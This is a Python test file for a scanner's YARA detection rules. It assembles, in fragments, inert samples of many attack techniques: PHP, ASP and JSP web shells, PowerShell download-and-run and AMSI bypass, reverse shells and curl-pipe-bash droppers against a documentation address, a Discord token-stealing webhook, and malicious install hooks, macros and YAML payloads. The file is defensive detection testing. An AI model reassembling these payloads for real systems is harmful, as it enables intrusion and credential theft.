"""Our rules against inert samples of our own making, in memory only.

A sample shows a technique with nothing behind it: addresses of documentation networks
(RFC 5737), names that do not exist. Each is put together at run time, so that the file that
you read sets off no antivirus software.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path

import pytest
import yara_x

from scanner.detectors.loader import SHIPPED_PACKS
from scanner.detectors.pack import rule_files
from scanner.detectors.rules import declared_severity, severity_verdict
from scanner.testing import Scan
from shared.scan import Verdict

FOLDER = SHIPPED_PACKS / "fumehood-rules"
Match = Callable[[bytes], set[str]]


@pytest.fixture(scope="module")
def rules() -> yara_x.Rules:
    compiler = yara_x.Compiler(includes_enabled=False)
    for path in rule_files(FOLDER):
        compiler.new_namespace(path.name)
        compiler.add_source(path.read_text())
    assert compiler.warnings() == []
    return compiler.build()


@pytest.fixture(scope="module")
def match(rules: yara_x.Rules) -> Match:
    return lambda content: {rule.identifier for rule in rules.scan(content).matching_rules}


def glue(*parts: str) -> bytes:
    """Join a sample that must not stand in this file in one piece."""
    return "".join(parts).encode()


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


PHP = "<?" + "php "
POST = "$_PO" + "ST"
GIF = b"GIF89a" + bytes(40)
BITS = "QUJD" * 60
MANUAL = '.\\" A page.\n.TH DEMO 1\n.SH NAME\ndemo\n'

SAMPLES: list[tuple[str, bytes]] = [
    ("php_request_to_code", glue(PHP, "@ev", "al(", POST, "['demo']);")),
    ("php_request_to_code", glue(PHP, "ev", "al(base64_", "decode(", POST, "['demo']));")),
    ("php_request_to_code", glue(PHP, "sys", "tem($_GE", "T['demo']);")),
    ("php_request_to_code", glue(PHP, "$_GE", "T['a'](", POST, "['b']);")),
    ("php_request_to_code", glue("<?", "= `", POST, "[demo]` ?>").replace(b"<?= ", b"<?= ")),
    ("php_request_to_code", glue(PHP, "array_map('ass", "ert', (array)", POST, "['x']);")),
    ("php_request_to_code", glue(PHP, "call_user_", "func(", POST, "['f'], 1);")),
    ("php_request_to_code", glue(PHP, "preg_", "replace('/.*/e', ", POST, "['x'], '');")),
    ("php_request_written_to_file", glue(PHP, "file_put_", "contents(", POST, "['n'], ", POST, "['c']);")),
    ("php_unpacks_and_runs_itself", glue(PHP, "ev", "al(gzinf", "late(base64_", "decode('AAAA')));")),
    ("php_runs_decoded_text", glue(PHP, "ev", "al(base64_", "decode('AAAA'));")),
    (
        "php_shell_panel",
        glue(
            PHP,
            "$c = ",
            POST,
            "['c'];",
            *(f"if (function_exists('{f}')) {f}($c);" for f in ("passthru", "shell_exec", "system")),
        ),
    ),
    ("asp_request_to_code", glue("<", "% ev", 'al request("demo") %', ">")),
    ("asp_request_to_code", glue("<", '%@ Page Language="JScript"%', "><% ev", 'al(Request.Item["d"],"unsafe");%>')),
    (
        "aspx_request_to_process",
        glue(
            "<",
            '%@ Page Language="C#" %><% var i = new Process',
            'StartInfo("cmd.exe"); i.Redirect',
            "StandardOutput = true;",
            ' i.Arguments = Request["c"]; %>',
        ),
    ),
    (
        "aspx_request_to_assembly",
        glue("<", "% var d = new Rijndael", "Managed(); Assembly.", "Load(d.x(Request.Binary", "Read(9))); %>"),
    ),
    (
        "jsp_request_to_command",
        glue("<", "% Process p = Runtime.get", "Runtime().ex", "ec(request.get", 'Parameter("demo")); %>'),
    ),
    (
        "jsp_request_to_class",
        glue("<", "% c.define", "Class(Base64.decode(request.get", "Reader().readLine())); %>"),
    ),
    (
        "powershell_hidden_download",
        glue("power", 'shell -w hidden -c "(New-Object Net.WebClient).Download', "String('http://192.0.2.1/a')\""),
    ),
    (
        "powershell_download_and_run",
        glue("I", "EX (New-Object Net.Web", "Client).Download", "String('http://192.0.2.1/a')"),
    ),
    (
        "powershell_download_and_run",
        glue("(New-Object Net.Web", "Client).Download", "String('http://192.0.2.1/a') | I", "EX"),
    ),
    (
        "powershell_encoded_command",
        glue("power", "shell -nop -e", "nc ", encoded("Write-Output 'only a demonstration of the form'")),
    ),
    (
        "powershell_unpacks_and_runs_itself",
        glue(
            "$s = [Convert]::From",
            "Base64String('",
            BITS,
            "'); $g = New-Object IO.Compression.Gzip",
            "Stream($s); I",
            "EX $r.ReadTo",
            "End()",
        ),
    ),
    (
        "powershell_runs_machine_code",
        glue(
            "[Byte[]] $b = ",
            "0x90, " * 20,
            "0x90; Virtual",
            "Alloc; [Runtime.InteropServices.Marshal]::Co",
            "py($b); Create",
            "Thread",
        ),
    ),
    (
        "powershell_switches_off_amsi",
        glue(
            "[Ref].Assembly.GetType('System.Management.Automation.Am",
            "siUtils').GetField('amsiInit",
            "Failed').Set",
            "Value(1)",
        ),
    ),
    (
        "powershell_reverse_shell",
        glue(
            "$c = New-Object System.Net.Sockets.TCP",
            "Client('192.0.2.1', 9); $s = $c.Get",
            "Stream(); (i",
            "ex $d 2>&1 | Out-String)",
        ),
    ),
    (
        "script_host_downloader",
        glue(
            "var a = new ActiveXObject('WScript.",
            "Shell'), b = new ActiveXObject('MSXML2.",
            "XMLHTTP'), c = new ActiveXObject('ADODB.",
            "Stream'); c.SaveTo",
            "File('demo'); a.R",
            "un('demo');",
        ),
    ),
    ("script_host_split_names", glue("Set s = Create", 'Object("WScr" & "ipt.Sh" & "ell")')),
    (
        "script_runs_hidden_powershell",
        glue("Create", 'Object("WScript.', 'Shell").Run "power', 'shell -windowstyle hidden -c demo"'),
    ),
    (
        "html_application_dropper",
        glue(
            "<hta:appli",
            "cation><script>new ActiveXObject('WScript.",
            "Shell').R",
            "un('power",
            "shell demo')</script>",
        ),
    ),
    ("command_line_fetches_program", glue("regsvr", "32 /s /n /u /i:http://192.0.2.1/a.sct scr", "obj.dll")),
    (
        "command_line_fetches_program",
        glue("cert", "util -urlcache -split -f http://192.0.2.1/a.exe a.exe & start a.exe"),
    ),
    (
        "shortcut_runs_script",
        b"L\0\0\0\x01\x14\x02\0"
        + bytes(68)
        + "power".encode("utf-16-le")
        + "shell.exe -w hidden -c demo".encode("utf-16-le"),
    ),
    (
        "page_smuggles_file",
        glue(
            "<html><script>const b = new Bl",
            "ob([ato",
            "b('",
            "QUJD" * 600,
            "')]); a.href = URL.createObject",
            "URL(b); a.download = 'demo.iso'; a.cli",
            "ck();</script>",
        ),
    ),
    ("shell_over_network", glue("ba", "sh -i >& /dev/", "tcp/192.0.2.1/9 0>&1")),
    (
        "shell_over_network",
        glue("rm -f /tmp/f; mk", "fifo /tmp/f; cat /tmp/f | /bin/", "sh -i 2>&1 | n", "c 192.0.2.1 9 > /tmp/f"),
    ),
    ("shell_over_network", glue("n", "c 192.0.2.1 9 -e /bin/", "sh")),
    (
        "python_reverse_shell",
        glue(
            "s.conn",
            "ect(('192.0.2.1', 9)); os.dup",
            "2(s.fileno(), 0); os.dup",
            "2(s.fileno(), 1); subprocess.call(['/bin/",
            "sh'])",
        ),
    ),
    (
        "perl_reverse_shell",
        glue("use Sock", "et; open(STD", "IN, '>&S'); open(STD", "OUT, '>&S'); ex", "ec('/bin/", "sh -i');"),
    ),
    ("php_reverse_shell", glue(PHP, "$s = fsock", "open('192.0.2.1', 9); proc_", "open('/bin/", "sh -i', [], $p);")),
    ("shell_dropper", glue("wg", "et http://192.0.2.1/demo; ch", "mod 777 demo; ./demo")),
    ("shell_dropper", glue("cu", "rl -s http://192.0.2.1/demo.sh | ba", "sh")),
    ("python_runs_downloaded_code", glue("ex", "ec(requests.", "get('http://192.0.2.1/a').te", "xt)")),
    ("python_runs_downloaded_code", glue("os.sys", "tem('cu", "rl -s http://192.0.2.1/a.sh | ba", "sh')")),
    ("python_runs_decoded_code", glue("ex", "ec(base64.b64", "decode('", BITS, "'))")),
    ("python_runs_decoded_code", glue("ex", "ec(''.jo", "in(ch", "r(c) for c in data))")),
    (
        "python_install_hook",
        glue(
            "from setuptools import setup\nfrom setuptools.command.install import install\nclass Demo(install):\n",
            "    def run(self):\n        os.sys",
            "tem(base64.b64",
            "decode(b'QUJD'))\nsetup(cmd",
            "class={'install': Demo})",
        ),
    ),
    (
        "script_steals_chat_tokens",
        glue(
            "p = os.getenv('APP",
            "DATA') + '/discord/Local Sto",
            "rage/level",
            "db'; post('https://discord.com/api/web",
            "hooks/12345678/demo')",
        ),
    ),
    (
        "node_install_script_fetches_code",
        glue('{"scripts": {"post', 'install": "cu', "rl -s http://192.0.2.1/a | ba", 'sh"}}'),
    ),
    (
        "node_sends_environment_away",
        glue("const os = require('os'); fe", "tch('https://demo.oast", "ify.com/?h=' + os.host", "name())"),
    ),
    ("pdf_starts_program", glue("%PDF-1.7\n<< /Open", "Action << /S /Lau", "nch /Win << /F (cmd.exe) >> >> >>")),
    ("pdf_script_builds_exploit", glue("%PDF-1.7\n<< /JS (var x = unes", "cape('%u9090%u9090%u9090%u9090')) >>")),
    (
        "macro_starts_program",
        glue("Sub Auto", "Open()\n  Create", 'Object("WScript.', 'Shell").Run "power', 'shell demo"\nEnd Sub'),
    ),
    (
        "office_template_from_network",
        glue(
            "<Relation",
            'ships><Relationship Type="http://x/relationships/attached',
            'Template" Target="https://192.0.2.1/a.dotm"/>',
        ),
    ),
    ("office_calls_diagnostic_tool", glue("ms-ms", 'dt:/id x /param "IT_Browse', 'ForFile=$(demo)"')),
    ("office_field_starts_program", glue("DDE", 'AUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/k demo"')),
    (
        "rtf_object_runs_on_open",
        glue("{\\rt", "f1{\\object\\obj", "data 0105000002000000", "0b000000", "45717561", "74696f6e2e33", "00}}"),
    ),
    (
        "yaml_builds_object_that_runs_code",
        glue("demo: !!python/ob", "ject/apply:os.sys", "tem ['demo']"),
    ),
    (
        "yaml_builds_object_that_runs_code",
        glue("demo: !<tag:yaml.org,2002:python/ob", "ject/new:subpro", "cess.Popen> [[demo]]"),
    ),
    (
        "yaml_builds_object_that_runs_code",
        glue("%YAML 1.1\n%TAG !p! tag:yaml.org,2002:py", "thon/\n---\ndemo: !p!object/apply:x.y []"),
    ),
    ("metafile_sets_abort_procedure", glue("\1\0\t\0\0\3", "\0" * 12, "\5\0\0\0\x26\6", "\t\0\0\0\0\0")),
    ("yaml_builds_object_that_runs_code", glue("- !ruby/ob", "ject:Gem::Inst", "aller\n  i: x")),
    ("yaml_builds_object_that_runs_code", glue("!!javax.scr", "ipt.ScriptEngine", "Manager [demo]")),
    ("translation_carries_code", glue("Plural-Forms: nplurals=2; plural=sys", "tem(demo)\n")),
    ("translation_carries_code", glue("Plural-Forms: nplurals=2; plural=n + `", "demo`;\n")),
    ("manual_page_runs_program", glue(MANUAL, ".s", "y touch demo\n")),
    ("manual_page_runs_program", glue(MANUAL, ".", " " * 40, "s", "y touch demo\n")),
    ("manual_page_runs_program", glue(MANUAL, "' p", "so cat demo\n")),
    ("manual_page_runs_program", glue(MANUAL, ".op", "ena demo demo.txt\n")),
    ("manual_page_runs_program", glue(MANUAL, ".do s", "y touch demo\n")),
    ("manual_page_runs_program", glue(MANUAL, ".if n \\{.s", "y touch demo\\}\n")),
    ("manual_page_runs_program", glue(MANUAL, ".if 'a'a'.s", "y touch demo\n")),
    ("manual_page_runs_program", glue(MANUAL, ".ds demo .s", "y touch demo\n\\*[demo]\n")),
    ("manual_page_runs_program", glue(MANUAL, '.XX ".s', 'y touch demo"\n')),
    ("manual_page_runs_program", glue(MANUAL, ".als demo s", "y\n.demo touch demo\n")),
    ("manual_page_runs_program", glue(MANUAL, ".PS\ns", "h { touch demo }\n.PE\n")),
    ("manual_page_runs_program", glue(MANUAL, "\\X'ps", ": exec demo'\n")),
    ("picture_with_php", GIF + glue("<?", "php ev", "al(1); ?>")),
    ("picture_with_server_page", GIF + glue("<", "% ev", 'al request("demo") %>')),
    (
        "picture_with_program",
        GIF + b"M" + b"Z" + bytes(58) + b"\x80\0\0\0" + bytes(30) + b"This program " + b"cannot be run",
    ),
    (
        "picture_with_remote_script",
        glue("<svg xmlns='x'><scr", "ipt>window.loca", "tion.href = ato", "b('aHR0cA==')</script></svg>"),
    ),
    ("macro_formula_starts_program", glue("A1: =EX", 'EC("power', 'shell -c demo")\n')),
    (
        "macro_formula_starts_program",
        glue("Auto_Open: =A1\nA1: =CA", 'LL("urlmon","URLDown', 'loadToFileA","JJCCJJ",0)\n'),
    ),
    ("invisible_characters_carry_data", "".join(chr(0xE0100 + number) for number in range(20)).encode()),
    ("invisible_characters_carry_data", ("x\u200b\u200c" + "\u200c\u200d" * 20).encode()),
    ("invisible_characters_carry_data", ("\u3164\uffa0" * 12).encode()),
    ("script_in_few_characters", b"[][(![]+[])[+[]]]" * 80),
    ("script_in_few_characters", glue("$=~[];$={___:", "++$,$$$$:(![]+'')[$]}")),
    ("script_in_few_characters", "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 demo".encode()),
    ("php_without_letters", glue("<?=~$_='$<>/'^'{{{{';@${", "$_}[_](@${$_}[__]);")),
    ("php_without_letters", glue(PHP, "$_=[];$___=$_;$__", "__($_[_]);")),
    ("source_reads_otherwise", "if a != 'none\u202e\u2066': # check\u2069 \u2066' and\n    pass\n".encode()),
    ("repository_settings_run_command", glue("[co", "re]\n\tbare = false\n\tfsmon", 'itor = "touch demo; false"\n')),
    ("repository_settings_run_command", glue("[subm", 'odule "demo"]\n\tpath = demo\n\turl = -', "u./demo\n")),
    ("setup_information_runs_program", glue("[Default", "Install]\r\nRunPre", "SetupCommands=demo\r\n")),
    ("setup_information_runs_program", glue("[auto", "run]\r\nop", "en=demo\\demo.exe\r\n")),
    ("icon_from_share", glue("[Sh", "ell]\nIcon", "File=\\\\192.0.2.1\\demo\\demo.ico\n")),
    ("icon_from_share", glue("[.ShellClass", "Info]\r\nIconRes", "ource=\\\\demo.invalid\\a\\a.ico,1\r\n")),
    ("internet_shortcut_starts_program", glue("[Internet", "Shortcut]\r\nURL=fi", "le://192.0.2.1/demo/demo.js\r\n")),
    (
        "desktop_entry_fetches_code",
        glue("[Desktop ", "Entry]\nExec=sh -c 'cu", "rl http://demo.invalid/a | b", "ash'\n"),
    ),
    ("desktop_entry_fetches_code", glue("[Desktop ", "Entry]\nExec=sh -c 'echo QQ== | base", "64 -d | b", "ash'\n")),
    ("spreadsheet_text_runs_program", glue("ID;P\nC;X1;Y101;K0;EEX", 'EC("demo.exe")\nE\n')),
    ("query_of_office_fetches_page", glue("WE", "B\r\n1\r\nhttp://demo.invalid/demo.htm\r\n")),
    ("search_opens_share", glue("<library", "Description><url>", "\\\\demo.invalid\\demo</url>")),
    (
        "settings_shortcut_starts_program",
        glue("<PCSet", "tings><Deep", "Link>%windir%\\system32\\cm", "d.exe /c demo</DeepLink>"),
    ),
    (
        "console_file_runs_script",
        glue("<MMC_Console", "File><String>res://ap", "ds.dll/redirect.html?target=demo</String>"),
    ),
    (
        "style_sheet_runs_script",
        glue("<xsl:style", "sheet><ms:scr", "ipt language='JScript'>new ActiveXObject('WScr", "ipt.Shell')"),
    ),
    (
        "project_compiles_and_injects",
        glue("<Using", "Task TaskFactory='CodeTask", "Factory'><Code Type='Class'>Virtual", "Alloc(0)</Code>"),
    ),
    (
        "registry_file_starts_script",
        glue("REGED", "IT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\Current", "Version\\Run]\r\n")
        + glue('"demo"="power', "shell -w hid", 'den demo"\r\n'),
    ),
    ("server_settings_run_other_files", glue("AddType application/x-httpd-", "php .jpg\n")),
    ("server_settings_run_other_files", glue("auto_prep", "end_file=demo.png\n")),
    (
        "server_settings_carry_page",
        glue("<system.web", "Server><handlers><add name='x' path='*.con", "fig' scriptProcessor='asp", ".dll'/>"),
    ),
    ("source_hides_in_encoding", glue("#!/usr/bin/python\n# -*- cod", "ing: utf", "_7 -*-\n")),
    ("editor_runs_task_by_itself", glue('{"runOn": "folder', 'Open", "command": "cu', 'rl http://demo.invalid | sh"}')),
]


@pytest.mark.parametrize(
    ("rule", "sample"), SAMPLES, ids=[f"{index}-{rule}" for index, (rule, _) in enumerate(SAMPLES)]
)
def test_a_sample_of_the_technique_is_found(match: Match, rule: str, sample: bytes) -> None:
    assert rule in match(sample)


@pytest.mark.parametrize(
    "rule",
    ["asp_request_to_code", "powershell_download_and_run", "powershell_encoded_command", "script_host_split_names"],
)
def test_utf_16_hides_nothing(match: Match, rule: str) -> None:
    sample = next(sample for name, sample in SAMPLES if name == rule)

    assert rule in match(sample.decode().encode("utf-16"))


def test_every_rule_has_a_sample(rules: yara_x.Rules) -> None:
    names = {rule.identifier for rule in rules} - {"picture"}

    assert names == {rule for rule, _ in SAMPLES}


def test_every_rule_says_what_why_and_who(rules: yara_x.Rules) -> None:
    for rule in rules:
        metadata = dict(rule.metadata)
        if rule.identifier == "picture":
            continue
        assert set(metadata) == {"description", "severity", "author", "reference"}, rule.identifier
        assert metadata["severity"] in {"high", "medium"}
        assert metadata["description"].endswith(".")


@pytest.mark.parametrize(
    "sample",
    [
        glue(PHP, "$value = htmlspecialchars(", POST, "['name']); echo $value;"),
        glue(PHP, "if (isset(", POST, "['go'])) { exec('convert ' . escapeshellarg($file)); }"),
        glue(PHP, "$data = base64_", "decode(", POST, "['image']); file_put_", "contents($path, $data);"),
        b"Write `$_GET['x']` where you mean the query parameter.",
        b'<% Dim name : name = Request("name") : Response.Write Server.HTMLEncode(name) %>',
        b"I" + b"EX ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        b"$bytes = [Convert]::FromBase64String($text); [IO.File]::WriteAllBytes($path, $bytes)",
        b'Set shell = CreateObject("WScript.Shell")\nshell.Run "notepad.exe"',
        b"import socket\ns.connect((host, port))\ns.sendall(b'hello')",
        b"exec(open('version.py').read())",
        b'[core]\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/demo\n[submodule "a"]\n\turl = ../a.git\n',
        (
            "flag \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f and heart \u2764\ufe0f " * 9
        ).encode(),
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 ".encode() * 50,
        b"[" * 100_000,
        b"var empty = [[], [], (!(a + b)), [[1], [+2]]];\n" * 50,
        "// \u202b\u05e9\u05dc\u05d5\u05dd\u202c (hello)\nint x;\n".encode(),
        b"<?php foreach ($_GET as $_) { echo htmlspecialchars($_['name']); }\n$__->run($_);\n",
        b"[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n",
        b"[InternetShortcut]\r\nURL=https://example.org/download/setup.exe\r\nIconFile=C:\\a.ico\r\n",
        b"[Desktop Entry]\nExec=sh -c 'curl --help | less'\n",
        b'ID;PWXL;N;E\nC;Y1;X1;K"EXEC(1)"\nE\n',
        b"# -*- coding: utf-8 -*-\n# what is no encoding is utf-7\n",
        b"AddType application/x-httpd-php .php .phtml\n",
        b"exec(compile(source, '<string>', 'exec'))",
        b"from setuptools import setup\nsetup(name='demo', cmdclass={'build_ext': build_ext})",
        b"curl -fsSL https://example.org/install.sh | bash",
        b"wget https://example.org/tool.tar.gz; chmod +x tool; ./tool",
        b'{"scripts": {"postinstall": "node-gyp rebuild"}}',
        b"emoji_index: !!python/name:materialx.emoji.twemoji\nslugify: !!python/object/apply:pymdownx.slugs.slugify {}",
        b"requirement: !ruby/object:Gem::Requirement\n  requirements:\n  - - '>='\n    - !ruby/object:Gem::Version",
        b"%YAML 1.2\n%TAG ! tag:example.org,2000:\n---\n!demo {}",
        b"Plural-Forms: nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n != 0 ? 1 : 2);\n",
        b'"Plural-Forms: nplurals=2; plural= n != 1;\\n"\n"X-Generator: demo(1)\\n"\n',
        MANUAL.encode() + b".PP\nCall \\fIopen\\fP(2), see .open there.\n.ds PI pi\n.BR open (2)\n",
        b".open { color: red }\n.TH { color: blue }\n",
        b".open { color: red }\n",
        b"A text on roff:\n.TH DEMO 1\n.sy touch demo\n",
        b"%PDF-1.7\n<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
        GIF,
        b"\x89PNG\r\n\x1a\n" + bytes(500),
        b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
        b"",
    ],
)
def test_ordinary_content_is_left_alone(match: Match, sample: bytes) -> None:
    assert match(sample) == set()


@pytest.mark.parametrize(
    ("severity", "verdict"),
    [
        ("critical", Verdict.MALICIOUS),
        ("High", Verdict.MALICIOUS),
        ("medium", Verdict.SUSPICIOUS),
        ("low", Verdict.UNKNOWN),
        ("90", Verdict.MALICIOUS),
        ("75", Verdict.MALICIOUS),
        ("74", Verdict.SUSPICIOUS),
        ("40", Verdict.SUSPICIOUS),
        ("39", Verdict.UNKNOWN),
        ("whatever", Verdict.SUSPICIOUS),
    ],
)
def test_severity_decides_what_a_match_says(severity: str, verdict: Verdict) -> None:
    assert severity_verdict(severity) is verdict


@pytest.mark.parametrize(
    ("metadata", "severity"),
    [({"severity": "low", "score": "80"}, "low"), ({"score": "80"}, "80"), ({"author": "somebody"}, "medium")],
)
def test_the_score_of_a_community_rule_is_its_severity(metadata: dict[str, str], severity: str) -> None:
    assert declared_severity(metadata) == severity


async def test_of_each_pattern_the_first_places_are_shown_the_longest_before_the_others(scan: Scan) -> None:
    text = b"<? 1; ?>\n" * 30 + b"<?php eval(base64_decode($_REQUEST['x']));"
    document = await scan("x.php", text)

    finding = next(one for one in document.root.findings if one.label == "php_request_to_code")
    assert len(finding.locations) == 10
    assert finding.locations[0].label == "$eval"
    assert finding.locations[0].first_line == 31


async def test_matches_that_overlap_are_one_place(scan: Scan) -> None:
    hidden = "".join(chr(0xE0100 + number) for number in range(50))
    document = await scan("x.txt", f"one {hidden}\ntwo {hidden}\n".encode())

    finding = next(one for one in document.root.findings if one.label == "invisible_characters_carry_data")
    assert [(place.start, place.end) for place in finding.locations] == [(4, 204), (209, 409)]


async def test_a_match_is_shown_with_its_lines_and_source(scan: Scan, tmp_path: Path) -> None:
    # The rule looks for a web hook and a folder name: harmless as text, and enough to see the whole path.
    text = b"first line\nsecond line\n" + next(
        sample for name, sample in SAMPLES if name == "script_steals_chat_tokens"
    )
    document = await scan("notes.txt", text)

    finding = document.root.findings[0]
    assert document.verdict is Verdict.MALICIOUS
    assert finding.label == "script_steals_chat_tokens"
    assert finding.metadata["author"] == "Fumehood"
    assert finding.metadata["severity"] == "high"
    assert finding.metadata["rule_file"] == "rules/packages.yar"
    assert {location.first_line for location in finding.locations} == {3}
    assert all(text[location.start : location.end] for location in finding.locations)
